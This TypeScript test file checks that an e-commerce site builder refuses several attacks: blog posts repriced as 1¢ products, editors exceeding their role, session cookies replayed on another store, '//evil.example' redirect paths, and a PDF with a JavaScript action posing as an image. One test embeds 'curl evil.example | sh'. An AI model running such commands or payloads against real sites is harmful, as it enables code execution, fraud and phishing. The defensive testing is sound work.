/**
 * One definition of a product (issue 29): an Editor saved a blog post with a real SKU, title and
 * options at 1¢ through `PUT /api/merchant/items/{id}` and a shopper bought it. Replayed here: product
 * fields outside a products collection are refused at every save (any role, any call, imports too),
 * the cart, restock sign-ups and stock lookups take nothing that is not a product even when such an
 * item is already stored, an Editor's code block is refused on the generic item call as on the
 * console's, and an item's fullUrl is a path of this site (never `//host`). Then attacks on the console's calls
 * (what was console-attacks.test.ts, below).
 */
import { env } from 'cloudflare:workers';
import { runInDurableObject } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { MERCHANT_MESSAGES } from '../../src/accounts/messages';
import { CART_MESSAGES } from '../../src/commerce/cart';
import { writeItem } from '../../src/durable/site-content/rows';
import { hashPassword } from '../../src/durable/passwords';
import { RESTOCK_MESSAGES } from '../../src/routes/shop/restock';
import type { SiteContent } from '../../src/durable/site-content';
import { contentObject, contentObjects } from '../../src/durable/stubs';
import { consoleItemsById } from '../../src/site/published/catalog';
import { CODE_INJECTION_MESSAGES } from '../../src/site/model/code-injection';
import { DEMO_MERCHANTS, DEMO_SITE_ID, demoSite } from '../../src/site/seed/demo';
import { ROLES } from '../../src/site/roles';
import { MAX_PRICE_UNITS, MAX_STOCK, PRODUCT_MESSAGES } from '../../src/site/editor/product-form';
import { ITEM_PROBLEMS, type Item } from '../../src/site/model/schema';
import { exportSite, mapHost, publishSite } from '../../src/site/published/store';
import { demoStoreOnHost } from '../worker/demo-on-host';
import { Visitor } from '../worker/visitor';

const TIMEOUT = 60_000;
const RESTOCK_PATH = '/api/site-users/account/notifications/restock';
const account = (role: number) => ({ email: `product-${role}@example.com`, password: `product-${role}-password` });
let store: { origin: string; websiteId: string };

async function signInAs(role: number): Promise<Visitor> {
  const visitor = await new Visitor(store.origin).open('/contact');
  expect((await visitor.json('POST', '/api/merchant/session', account(role))).status).toBe(200);
  return visitor;
}

const version = async () => Number(await env.SITE_CONTENT.get(`site:${store.websiteId}:version`));

async function storedItem(id: string): Promise<Item | undefined> {
  return (await exportSite(contentObject(env, store.websiteId)))?.items.find((item) => item.id === id);
}

/** The Linen Shirt's product fields at 1¢ on the blog's first post: the finding's payload. */
async function fakeProductPost(): Promise<{ post: Item; shirt: Item }> {
  const items = (await exportSite(contentObject(env, store.websiteId)))?.items ?? [];
  const shirt = items.find((item) => item.urlId === 'linen-shirt') as Item;
  const post = items.find((item) => item.collectionId === 'c-blog') as Item;
  const cheap = { value: '0.01', currency: 'USD' };
  const variants = shirt.structuredContent!.variants.map((v) => ({ ...v, price: 1, priceMoney: cheap, onSale: false }));
  return { post: { ...post, title: shirt.title, structuredContent: { ...shirt.structuredContent!, variants } }, shirt };
}

/** Data written before the rule existed: straight into the object's tables, past every check. */
async function plant(item: Item): Promise<void> {
  await runInDurableObject(
    contentObject(env, store.websiteId) as unknown as DurableObjectStub<SiteContent>,
    async (_instance, state) => {
      writeItem(state.storage.sql, item);
    },
  );
}

beforeAll(async () => {
  store = await demoStoreOnHost('security', 'product-definition');
  const team = env.MERCHANTS.get(env.MERCHANTS.idFromName(store.websiteId));
  for (const role of [ROLES.admin, ROLES.editor])
    await team.ensureMember(account(role).email, await hashPassword(account(role).password), [role]);
}, TIMEOUT);

describe('an item outside a products collection is never a product', () => {
  it(
    "refuses an Editor's blog post carrying a product's fields at 1¢ (PUT /api/merchant/items/{id}) with a 400, and the owner's too; nothing is saved",
    async () => {
      const { post } = await fakeProductPost();
      const before = await version();
      for (const role of [ROLES.editor, ROLES.admin]) {
        const merchant = await signInAs(role);
        const res = await merchant.json('PUT', `/api/merchant/items/${post.id}`, post);
        expect(res, `role ${role}`).toEqual({
          status: 400,
          body: {
            error: `Invalid site content: items.${post.id}.structuredContent: ${ITEM_PROBLEMS.productFieldsOutsideProducts}`,
          },
        });
        const asProduct = await merchant.json('PUT', `/api/merchant/items/${post.id}`, {
          ...post,
          structuredContent: undefined,
          recordType: 11,
        });
        expect(asProduct, `role ${role}`).toEqual({
          status: 400,
          body: {
            error: `Invalid site content: items.${post.id}.recordType: ${ITEM_PROBLEMS.productRecordOutsideProducts}`,
          },
        });
      }
      expect(await version()).toBe(before);
      expect((await storedItem(post.id))?.structuredContent).toBeUndefined();
      // The Editor still edits posts: the same post without product fields saves.
      const editor = await signInAs(ROLES.editor);
      const { structuredContent: _fields, ...plain } = post;
      expect(await editor.json('PUT', `/api/merchant/items/${post.id}`, plain)).toEqual({
        status: 200,
        body: { changed: true },
      });
    },
    TIMEOUT,
  );

  it('refuses product fields outside a products collection in a published or imported site', async () => {
    const site = demoSite();
    site.website.id = 'security-product-import';
    const post = site.items.find((item) => item.collectionId === 'c-blog')!;
    const shirt = site.items.find((item) => item.urlId === 'linen-shirt')!;
    post.structuredContent = shirt.structuredContent;
    const at = site.items.indexOf(post);
    expect(await publishSite(contentObjects(env), site)).toEqual({
      error: `Invalid site content: items.${at}.structuredContent: ${ITEM_PROBLEMS.productFieldsOutsideProducts}`,
    });
    expect(await exportSite(contentObject(env, site.website.id))).toBeNull();
  });

  it(
    'sells nothing the product definition does not call a product, even when such an item is already stored',
    async () => {
      const { post } = await fakeProductPost();
      const planted = { ...post, id: 'b-planted', urlId: 'planted' } as Item;
      await plant(planted);
      const shopper = await new Visitor(store.origin).open();
      const sku = planted.structuredContent!.variants[0]!.sku;
      const add = await shopper.json('POST', '/api/commerce/shopping-cart/entries', {
        itemId: planted.id,
        sku,
        quantity: 3,
      });
      expect(add).toEqual({ status: 400, body: { error: CART_MESSAGES.itemNotFound } });
      expect(
        (await shopper.json<{ entries: unknown[] }>('GET', '/api/commerce/shopping-cart')).body.entries ?? [],
      ).toEqual([]);
      // The console saves such a post as a post: its product fields go.
      const editor = await signInAs(ROLES.editor);
      const edited = {
        title: 'Planted',
        body: '<p>Now a post</p>',
        excerpt: '',
        tags: [],
        categories: [],
        status: 'published',
        publishOn: 0,
        assetUrl: null,
      };
      expect((await editor.json('PUT', `/api/console/posts/${planted.id}`, edited)).status).toBe(200);
      expect((await storedItem(planted.id))?.structuredContent).toBeUndefined();
    },
    TIMEOUT,
  );

  it(
    'takes no restock sign-up and tells no stock for an item the product definition does not call a product, even when such an item is already stored',
    async () => {
      const items = (await exportSite(contentObject(env, store.websiteId)))?.items ?? [];
      const mug = items.find((item) => item.urlId === 'ceramic-mug') as Item;
      const post = items.find((item) => item.collectionId === 'c-blog') as Item;
      const planted = {
        ...post,
        id: 'b-planted-mug',
        urlId: 'planted-mug',
        title: mug.title,
        structuredContent: mug.structuredContent,
      } as Item;
      await plant(planted);
      const shopper = await new Visitor(store.origin).open();
      const variantId = mug.structuredContent!.variants[0]!.id;
      const signUp = {
        variantId,
        siteVisitorEmail: 'reader@example.com',
        recaptchaEnterpriseV3Token: 'local:product_waitlist:0123456789abcdef',
      };
      expect(await shopper.json('POST', RESTOCK_PATH, { ...signUp, productId: planted.id })).toEqual({
        status: 404,
        body: { error: RESTOCK_MESSAGES.unknownVariant },
      });
      expect(await shopper.json('GET', `/api/commerce/inventory/stock/?itemId=${planted.id}`)).toEqual({
        status: 404,
        body: { error: CART_MESSAGES.itemNotFound },
      });
      // The sold-out mug itself, a product, still takes both.
      expect(await shopper.json('POST', RESTOCK_PATH, { ...signUp, productId: mug.id })).toEqual({
        status: 200,
        body: { signedUp: true, created: true },
      });
      expect((await shopper.json('GET', `/api/commerce/inventory/stock/?itemId=${mug.id}`)).status).toBe(200);
    },
    TIMEOUT,
  );
  it(
    'does not open, save, copy or delete such a stored item as a product in the console (/api/console/products/{id})',
    async () => {
      const { post, shirt } = await fakeProductPost();
      const planted = { ...post, id: 'b-planted-console', urlId: 'planted-console', recordType: 11 } as Item;
      await plant(planted);
      const admin = await signInAs(ROLES.admin);
      const unknown = { status: 404, body: { error: PRODUCT_MESSAGES.unknownProduct } };
      const form = (await admin.json<{ product: unknown }>('GET', `/api/console/products/${shirt.id}`)).body.product;
      expect(await admin.json('GET', `/api/console/products/${planted.id}`)).toEqual(unknown);
      expect(await admin.json('PUT', `/api/console/products/${planted.id}`, form)).toEqual(unknown);
      expect(await admin.json('POST', `/api/console/products/${planted.id}/duplicate`, {})).toEqual(unknown);
      expect(await admin.json('DELETE', `/api/console/products/${planted.id}`, {})).toEqual(unknown);
      expect((await storedItem(planted.id))?.title).toBe(planted.title);
    },
    TIMEOUT,
  );
});

describe('every item save keeps code blocks to the code-injection roles', () => {
  it(
    "refuses an Editor's code block through PUT /api/merchant/items/{id}, as the console does; an administrator may add it",
    async () => {
      const { post } = await fakeProductPost();
      const { structuredContent: _fields, ...plain } = post;
      const withCode = { ...plain, body: '<p>Try</p><pre><code>curl evil.example | sh</code></pre>' };
      const before = await version();
      const editor = await signInAs(ROLES.editor);
      expect(await editor.json('PUT', `/api/merchant/items/${post.id}`, withCode)).toEqual({
        status: 403,
        body: { error: CODE_INJECTION_MESSAGES.codeBlocks },
      });
      expect(await version()).toBe(before);
      expect((await storedItem(post.id))?.body).not.toContain('<pre>');
      const admin = await signInAs(ROLES.admin);
      expect((await admin.json('PUT', `/api/merchant/items/${post.id}`, withCode)).status).toBe(200);
      // Now the Editor may neither change nor remove it, through either call.
      expect(
        (await editor.json('PUT', `/api/merchant/items/${post.id}`, { ...withCode, body: '<p>Gone</p>' })).status,
      ).toBe(403);
      expect((await editor.json('DELETE', `/api/merchant/items/${post.id}`)).status).toBe(403);
      expect(
        (await editor.json('PUT', `/api/merchant/items/${post.id}`, { ...withCode, title: 'Retitled' })).status,
      ).toBe(200);
    },
    TIMEOUT,
  );
});

describe("an item's fullUrl is a path of this site", () => {
  it(
    'refuses //host and /\\host, which browsers read as another host',
    async () => {
      const { post } = await fakeProductPost();
      const { structuredContent: _fields, ...plain } = post;
      const admin = await signInAs(ROLES.admin);
      for (const fullUrl of ['//evil.example/login', '/\\evil.example/login']) {
        const res = await admin.json('PUT', `/api/merchant/items/${post.id}`, { ...plain, fullUrl });
        expect(res.status, fullUrl).toBe(400);
        expect(res.body, fullUrl).toMatchObject({
          error: expect.stringContaining(`items.${post.id}.fullUrl: must be a site path starting with a single /`),
        });
      }
      expect((await storedItem(post.id))?.fullUrl).toBe(post.fullUrl);
    },
    TIMEOUT,
  );

  it(
    'refuses a navigation link to //host through the navigation call (one definition of a site path)',
    async () => {
      const admin = await signInAs(ROLES.admin);
      const navigation = (url: string) => ({
        fieldName: 'main',
        templateId: 't',
        navigation: {
          items: [
            { title: 'Shop', collectionId: 'c-shop' },
            { title: 'Sign in', url },
          ],
        },
      });
      const before = await version();
      for (const url of ['//evil.example/login', '/\\evil.example/login']) {
        const res = await admin.json('POST', '/api/widget/UpdateNavigation', navigation(url));
        expect(res.status, url).toBe(400);
      }
      expect(await version()).toBe(before);
      expect((await admin.json('POST', '/api/widget/UpdateNavigation', navigation('/contact'))).status).toBe(200);
    },
    TIMEOUT,
  );
});

describe('one current price and one "never runs out" for every reader', () => {
  it(
    'sorts a digital product by its own current price in a listing (it had none, so it came last)',
    async () => {
      const shopper = await new Visitor(store.origin).open();
      const page = await (await shopper.fetch('/shop?sort=price-asc')).text();
      expect(page).toContain('/shop/p/recipe-ebook');
      expect(page.indexOf('/shop/p/recipe-ebook')).toBeLessThan(page.indexOf('/shop/p/canvas-tote'));
    },
    TIMEOUT,
  );

  it(
    'never shows a paywall product (type 5) sold out: it has no stock to run out of',
    async () => {
      const paywall = await demoStoreOnHost('security', 'paywall', (site) => {
        const ebook = site.items.find((item) => item.urlId === 'recipe-ebook')!;
        ebook.structuredContent!.productType = 5;
      });
      const shopper = await new Visitor(paywall.origin).open();
      const itemClass = async (path: string) =>
        /<article class="(ProductItem[^"]*)"/.exec(await (await shopper.fetch(path)).text())?.[1];
      expect(await itemClass('/shop/p/recipe-ebook')).toBe('ProductItem on-sale');
      expect(await itemClass('/shop/p/ceramic-mug')).toBe('ProductItem sold-out');
    },
    TIMEOUT,
  );
});

/**
 * Attacks on the merchant console's calls, made as an attacker's browser or script would: a role
 * reaching what its permission does not cover through another call, a merchant of one store using
 * their session or ids on another store, and an uploaded file's width variant smuggling another
 * type in place of the image.
 */
describe('console-attacks', () => {
  const [OWNER, , EDITOR] = DEMO_MERCHANTS;
  const OTHER_ID = 'attack-other';
  const OTHER_ORIGIN = 'http://other-store.test';
  const OTHER_OWNER = { email: 'owner@other-store.test', password: 'other-store-owner' };
  const SIGN_INS_TIMEOUT = 120_000;

  async function signIn(origin: string, account: { email: string; password: string }): Promise<Visitor> {
    const visitor = await new Visitor(origin).open('/contact');
    const res = await visitor.json('POST', '/api/merchant/session', {
      email: account.email,
      password: account.password,
    });
    expect(res.status, account.email).toBe(200);
    return visitor;
  }

  /** The product as the console sees it (a new product starts as a draft, which shoppers do not see). */
  async function product(websiteId: string, id: string): Promise<Item | undefined> {
    return (await consoleItemsById(contentObject(env, websiteId), [id])).get(id);
  }

  function png(size = 64): Uint8Array {
    const bytes = new Uint8Array(size).fill(1);
    bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    return bytes;
  }

  beforeAll(async () => {
    const site = demoSite();
    site.website = { ...site.website, id: OTHER_ID, siteTitle: 'Other Store', baseUrl: OTHER_ORIGIN };
    expect(await publishSite(contentObjects(env), site)).toHaveProperty('version');
    await mapHost(env.SITE_CONTENT, new URL(OTHER_ORIGIN).hostname, OTHER_ID);
    const team = env.MERCHANTS.get(env.MERCHANTS.idFromName(OTHER_ID));
    await team.ensureMember(OTHER_OWNER.email, await hashPassword(OTHER_OWNER.password), [ROLES.admin]);
  }, SIGN_INS_TIMEOUT);

  describe('a role reaching past its permission', () => {
    it('refuses an editor (content, not commerce) who reprices or deletes a product through the generic item call', async () => {
      const owner = await signIn('http://localhost', OWNER);
      const editor = await signIn('http://localhost', EDITOR);
      const { products } = (
        await owner.json<{ products: { id: string; fullUrl: string }[] }>('GET', '/api/console/products')
      ).body;
      const target = products[0];
      if (target === undefined) throw new Error('the demo store has no products');
      // The console's own product calls already refuse the editor.
      expect((await editor.json('GET', `/api/console/products/${target.id}`)).status).toBe(403);
      const before = await product(DEMO_SITE_ID, target.id);
      if (before?.structuredContent === undefined) throw new Error('the product has no variants');
      const cheap = {
        ...before,
        structuredContent: {
          ...before.structuredContent,
          variants: before.structuredContent.variants.map((variant) => ({
            ...variant,
            price: 1,
            onSale: false,
            priceMoney: { ...variant.priceMoney, value: '0.01' },
          })),
        },
      };
      expect(await editor.json('PUT', `/api/merchant/items/${target.id}`, cheap)).toEqual({
        status: 403,
        body: { error: MERCHANT_MESSAGES.forbidden },
      });
      expect(await editor.json('DELETE', `/api/merchant/items/${target.id}`)).toEqual({
        status: 403,
        body: { error: MERCHANT_MESSAGES.forbidden },
      });
      const moved = { ...cheap, id: 'p-editor-made', urlId: 'editor-made', fullUrl: '/shop/p/editor-made' };
      expect(await editor.json('PUT', '/api/merchant/items/p-editor-made', moved)).toEqual({
        status: 403,
        body: { error: MERCHANT_MESSAGES.forbidden },
      });
      expect(await product(DEMO_SITE_ID, target.id)).toEqual(before);
      expect(await product(DEMO_SITE_ID, 'p-editor-made')).toBeUndefined();
      // The shopper still sees the product at its price.
      expect((await new Visitor().fetch(target.fullUrl)).status).toBe(200);
      // Posts stay the editor's: a blog post saved whole through the same call is taken.
      const post = (await owner.json<{ posts: { id: string }[] }>('GET', '/api/console/posts?collectionId=c-blog')).body
        .posts[0];
      if (post === undefined) throw new Error('the demo blog has no posts');
      const stored = (await editor.json<Item>('GET', `/api/console/posts/${post.id}`)).body;
      expect(
        (await editor.json('PUT', `/api/merchant/items/${post.id}`, { ...stored, title: `${stored.title}!` })).status,
      ).toBe(200);
    });
  });

  describe('one store’s merchant against another store', () => {
    it(
      'gets 401 with their session cookie replayed on the other store’s host, and 404 for the other store’s ids on their own',
      async () => {
        const other = await signIn(OTHER_ORIGIN, OTHER_OWNER);
        // A product only the other store has (the two stores start as copies of the demo, ids and all).
        const { products } = (await other.json<{ products: { id: string }[] }>('GET', '/api/console/products')).body;
        const made = await other.json<{ id: string }>(
          'POST',
          `/api/console/products/${products[0]?.id ?? ''}/duplicate`,
        );
        expect(made.status).toBe(200);
        const theirs = made.body;
        expect(await product(DEMO_SITE_ID, theirs.id)).toBeUndefined();
        const upload = await other.fetch('/api/console/files?name=secret.png', {
          method: 'POST',
          headers: { 'x-csrf-token': other.crumb },
          body: png(),
        });
        const file = (await upload.json()) as { id: string; url: string };
        expect(upload.status).toBe(201);

        const demoOwner = await signIn('http://localhost', OWNER);
        const replayed = new Visitor(OTHER_ORIGIN);
        for (const [name, value] of demoOwner.cookies) replayed.cookies.set(name, value);
        for (const [method, path, body] of [
          ['GET', '/api/console/files', undefined],
          ['GET', `/api/console/products/${theirs.id}`, undefined],
          ['DELETE', `/api/console/files/${file.id}`, undefined],
          ['PUT', '/api/console/store/currency', { currency: 'EUR' }],
          ['GET', '/api/console/team', undefined],
        ] as const) {
          expect((await replayed.json(method, path, body)).status, `${method} ${path}`).toBe(401);
        }

        expect((await demoOwner.json('GET', `/api/console/products/${theirs.id}`)).status).toBe(404);
        expect((await demoOwner.json('PUT', `/api/merchant/items/${theirs.id}`, { id: theirs.id })).status).toBe(400);
        expect((await demoOwner.json('DELETE', `/api/merchant/items/${theirs.id}`)).status).toBe(404);
        expect((await demoOwner.json('DELETE', `/api/console/files/${file.id}`)).status).toBe(404);
        expect((await demoOwner.fetch(file.url)).status).toBe(404);
        expect((await new Visitor(OTHER_ORIGIN).fetch(file.url)).status).toBe(200);
        expect(await product(OTHER_ID, theirs.id)).toBeDefined();
      },
      SIGN_INS_TIMEOUT,
    );
  });

  describe('image width variants', () => {
    it('refuse a variant that is not an image, so a PDF is never served in an image’s place', async () => {
      const owner = await signIn('http://localhost', OWNER);
      const upload = await owner.fetch('/api/console/files?name=photo.png', {
        method: 'POST',
        headers: { 'x-csrf-token': owner.crumb },
        body: png(),
      });
      const file = (await upload.json()) as { id: string; url: string; rev: number };
      const pdf = new TextEncoder().encode(
        '%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>',
      );
      const variant = await owner.fetch(`/api/console/files/${file.id}/${file.rev}/w300`, {
        method: 'PUT',
        headers: { 'x-csrf-token': owner.crumb, 'content-type': 'application/pdf' },
        body: pdf,
      });
      expect(variant.status).toBe(415);
      const served = await owner.fetch(`${file.url}?w=300`);
      expect(served.headers.get('content-type')).toBe('image/png');
      expect(new Uint8Array(await served.arrayBuffer())).toEqual(png());
    });
  });

  describe('bulk changes', () => {
    it('keep prices and stock within the product form’s bounds, so the product can still be opened, saved and bought', async () => {
      const owner = await signIn('http://localhost', OWNER);
      const { products } = (
        await owner.json<{ products: { id: string; variantCount: number }[] }>('GET', '/api/console/products')
      ).body;
      const target = products.find((row) => row.variantCount === 1);
      if (target === undefined) throw new Error('the demo store has no product with one variant');
      for (let i = 0; i < 3; i++) {
        const raise = await owner.json('POST', '/api/console/products/bulk', {
          ids: [target.id],
          change: { kind: 'price', mode: 'percent', amount: MAX_PRICE_UNITS },
        });
        expect(raise.status).toBe(200);
        const stock = await owner.json('POST', '/api/console/products/bulk', {
          ids: [target.id],
          change: { kind: 'stock', mode: 'add', amount: MAX_STOCK },
        });
        expect(stock.status).toBe(200);
      }
      const form = await owner.json<{ product: { variants: { price: number; stock: number }[] } }>(
        'GET',
        `/api/console/products/${target.id}`,
      );
      expect(form.body.product.variants.map(({ price, stock }) => ({ price, stock }))).toEqual([
        { price: MAX_PRICE_UNITS, stock: MAX_STOCK },
      ]);
      expect((await owner.json('PUT', `/api/console/products/${target.id}`, form.body.product)).status).toBe(200);
    });
  });
});
